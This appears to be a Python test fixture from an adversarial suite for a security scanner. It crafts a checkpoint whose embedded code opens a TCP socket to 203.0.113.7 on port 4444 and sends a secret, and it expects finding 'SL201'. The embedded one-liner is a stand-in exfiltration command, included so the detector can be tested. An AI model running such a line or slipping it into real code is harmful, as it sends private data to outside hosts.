"""Class: exfiltration. A TCP connection to an IPv4 address carries a secret."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, PORT, checkpoint, run

EXPECT = {"address": ADDRESS, "port": PORT, "finding": "SL201"}


def make(folder: Path) -> Path:
    return checkpoint(
        folder,
        run("import socket; socket.create_connection(('203.0.113.7', 4444), 2).sendall(b'SECRET')"),
    )
